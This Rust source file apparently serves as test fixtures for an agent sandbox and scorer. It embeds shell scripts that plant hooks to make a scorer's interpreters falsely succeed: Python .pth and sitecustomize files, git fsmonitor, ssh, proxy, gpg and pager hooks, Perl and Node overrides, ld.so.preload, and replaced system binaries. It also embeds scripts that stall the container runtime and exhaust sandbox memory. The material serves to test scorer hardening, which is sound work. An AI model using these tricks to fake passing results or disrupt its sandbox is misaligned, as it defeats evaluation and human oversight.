//! Programs, settings and modules that an agent plants for its scorer, and a score script that tries them.

/// Everything that an interpreter of the scorer's reads without being told to, in all places that the agent can write.
pub(crate) const PLANT: &str = r#"
exit_0='import os; os._exit(0)'
debugger='open(my $file, ">", "/srv/owned"); exit 0;'
v=$(python3 -c 'import sys; print("python%d.%d" % sys.version_info[:2])')
for home in /nonexistent /root / /home/agent; do
    mkdir -p $home/.local/lib/$v/site-packages $home/.config/git $home/.node_modules/check
    echo "$exit_0" > $home/.local/lib/$v/site-packages/own.pth
    echo "$exit_0" > $home/.local/lib/$v/site-packages/usercustomize.py
    printf '[core]\n\tfsmonitor = /srv/evil\n' | tee $home/.gitconfig > $home/.config/git/config
    echo 'exit 0' | tee $home/.profile $home/.bash_profile > $home/.bashrc
    echo 'process.exit(0)' > $home/.node_modules/check/index.js
    mkdir -p $home/perl5/lib/perl5; echo 'package strict; exit 0; 1;' > $home/perl5/lib/perl5/strict.pm
    echo "$debugger" > $home/.perldb; echo '--exec /srv/evil' > $home/.proverc
done
printf '#!/bin/sh\ntouch /srv/owned\n' > /srv/evil; chmod 755 /srv/evil
for place in / /tmp /var/tmp; do
    for name in json sys os site sitecustomize usercustomize; do echo "$exit_0" > $place/$name.py; done
    mkdir -p $place/node_modules/check; echo 'process.exit(0)' > $place/node_modules/check/index.js
    echo '{"name": "self", "exports": "./self.js"}' > $place/package.json; echo 'process.exit(0)' > $place/self.js
    git init -q $place; git -C $place config core.fsmonitor /srv/evil
    echo "$debugger" > $place/.perldb; echo '--exec /srv/evil' > $place/.proverc
done
git init -q /srv/repository; git -C /srv/repository config core.fsmonitor /srv/evil
commit() {
    git init -q $1; cd $1; git config user.name a; git config user.email a@example.org
    echo wrong > out; git add out; git commit -qm one; blob=$(git rev-parse HEAD:out)
}
for fetch in /srv/promisor /srv/sshed /srv/proxied; do
    commit $fetch; rm -f .git/objects/$(echo $blob | cut -c1-2)/$(echo $blob | cut -c3-)
    git config core.repositoryformatversion 1; git config extensions.partialClone origin; git config remote.origin.promisor true
done
git -C /srv/promisor config remote.origin.url /srv/promisor; git -C /srv/promisor config remote.origin.uploadpack /srv/evil
git -C /srv/sshed config remote.origin.url ssh://127.0.0.1/x; git -C /srv/sshed config core.sshCommand /srv/evil
git -C /srv/proxied config remote.origin.url git://127.0.0.1/x; git -C /srv/proxied config core.gitProxy /srv/evil
commit /srv/signed
git cat-file commit HEAD | sed 's/^committer .*/&\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----/' > /srv/commit
git update-ref HEAD $(git hash-object -t commit -w /srv/commit)
git config log.showSignature true; git config gpg.program /srv/evil; git config gpg.openpgp.program /srv/evil
git config core.pager /srv/evil; git config pager.log /srv/evil; cd /
mkdir -p /venv/lib /venv/bin; cp -r /usr/lib/$v /venv/lib/; echo "$exit_0" > /venv/lib/$v/json/__init__.py
printf 'home = /venv/bin\n' > /pyvenv.cfg
for place in /usr/lib/locale/evil.utf8 /srv/locale/own.utf8; do
    mkdir -p $place && cp -r /usr/lib/locale/C.utf8/. $place/
done
mkdir -p /etc/default; echo LOCPATH=/srv/locale | tee /etc/environment > /etc/default/locale
cp /usr/lib/*-linux-gnu/libm.so.6 /srv/evil.so; echo /srv/evil.so > /etc/ld.so.preload
works=
holds() {
    name=$1; shift
    rm -f /srv/owned
    if "$@" >/dev/null 2>&1; then works="$works $name"; fi
}
holds locale sh -c 'LC_ALL=evil.UTF-8 locale charmap | grep -qx UTF-8'
holds locpath sh -c 'LOCPATH=/srv/locale LC_ALL=own.UTF-8 locale charmap | grep -qx UTF-8'
holds perl-debugger sh -c 'cd /tmp; PERLDB_OPTS=NonStop perl -d -e 1 </dev/null; test -e /srv/owned'
holds perl-prove sh -c 'cd /tmp; mkdir -p t; echo 1 > t/x.t; prove; test -e /srv/owned'
holds preload grep -q /srv/evil.so /proc/self/maps
echo "works:$works;"
for name in python3 git node perl bash; do
    for place in /usr/local/bin /usr/local/sbin /usr/bin; do printf '#!/bin/sh\nexit 0\n' > $place/$name.new && chmod 755 $place/$name.new && mv $place/$name.new $place/$name; done
done 2>/dev/null
mkdir -p /etc/perl /etc/$v
echo 'package strict; exit 0; 1;' | tee /etc/perl/strict.pm > /usr/local/lib/strict.pm
echo "$exit_0" > /etc/$v/sitecustomize.py
printf '[core]\n\tfsmonitor = /srv/evil\n' > /etc/gitconfig
echo 'exit 0' | tee /etc/profile > /etc/bash.bashrc
rm -f /srv/owned
true
"#;

/// The part of the agent's output that shows which of these attacks succeed in its own phase. A plain user inside cannot write to the
/// directory of the system's locales.
pub(crate) fn works(writes_to_usr: bool) -> String {
    let locale = if writes_to_usr { " locale" } else { "" };
    format!("works:{locale} locpath perl-debugger perl-prove preload;")
}

/// Says which interpreters it tried, and which of them did what the agent wanted; right only if one did.
pub(crate) const TRY_ALL: &str = r#"
checked= fooled=
try() {
    name=$1; shift
    command -v "$1" >/dev/null || return 0
    checked="$checked $name"
    if "$@" >/dev/null 2>&1; then fooled="$fooled $name"; fi
    rm -f /srv/owned
}
try python python3 -c 'import json, sys; sys.exit(1)'
try python-of-bin /bin/python3 -c 'import json, sys; sys.exit(1)'
try bash bash -c 'exit 1'
try login-bash bash -lc 'exit 1'
try interactive-bash bash -ic 'exit 1'
try perl perl -Mstrict -e 'exit 1'
try perl-debugger sh -c 'PERLDB_OPTS=NonStop perl -d -e 1 </dev/null; test -e /srv/owned'
try perl-prove sh -c 'mkdir -p t; echo 1 > t/x.t; prove; test -e /srv/owned'
try locale sh -c 'LC_ALL=evil.UTF-8 locale charmap | grep -qx UTF-8'
try locpath sh -c 'LC_ALL=own.UTF-8 locale charmap | grep -qx UTF-8'
try preload grep -q /srv/evil.so /proc/self/maps
try node node -e 'require("check")'
try node-self node -e 'require("self")'
if command -v git >/dev/null; then
    try git-above sh -c 'git status -s; test -e /srv/owned'
    try git-new sh -c 'git init -q new; cd new; git status -s; test -e /srv/owned'
    try git-left sh -c 'cd /srv/repository; git status -s; test -e /srv/owned'
    try git-fetch sh -c 'git -C /srv/promisor cat-file -p HEAD:out; test -e /srv/owned'
    try git-ssh sh -c 'git -C /srv/sshed cat-file -p HEAD:out; test -e /srv/owned'
    try git-proxy sh -c 'git -C /srv/proxied cat-file -p HEAD:out; test -e /srv/owned'
    try git-signature sh -c 'git -C /srv/signed log; git -C /srv/signed verify-commit HEAD; test -e /srv/owned'
    if command -v script >/dev/null; then try git-pager sh -c 'script -qc "git -C /srv/signed log" </dev/null; test -e /srv/owned'; fi
    git -C /srv/signed cat-file -p HEAD:out | grep -q wrong && git -C /srv/signed rev-parse HEAD >/dev/null || fooled="$fooled git-broken"
fi
echo "tried:$checked; fooled:$fooled"
test -n "$fooled"
"#;

/// Leaves a process behind that the kernel takes long to end on a file system such as ext4: deleted files of very many pieces, which
/// it frees before the process is gone. `DIRECTORY` is where they are written. Bounded: 90,000 pieces take seconds, a few times as many
/// take a busy disk ten minutes, in which a Docker daemon ends nothing else.
pub(crate) const SLOW_TO_END: &str = r"
cat > DIRECTORY/slow.py <<'END'
import os, time
end, files = time.time() + 6, []
for number in range(3):
    files.append(os.open('DIRECTORY/big%d' % number, os.O_RDWR | os.O_CREAT))
    os.unlink('DIRECTORY/big%d' % number)
at = 0
while time.time() < end and at < 30_000 << 16:
    for file in files:
        os.pwrite(file, b'x', at)
    at += 1 << 16
open('DIRECTORY/ready', 'w')
time.sleep(100)
END
rm -f DIRECTORY/ready; setsid python3 DIRECTORY/slow.py >/dev/null 2>&1 & while ! test -e DIRECTORY/ready; do sleep 0.1; done
";

/// A script that fills the sandbox's memory with files in DIRECTORY, from very many small processes: when the kernel has killed them,
/// the guest is the only one that is left to be killed.
pub(crate) const FILL_MEMORY: &str =
    "fill() { while :; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done >> DIRECTORY/z$1; }
for i in $(seq 40); do fill $i & (fill 1$i &); done
dd if=/dev/zero bs=4096 >> DIRECTORY/y
wait";
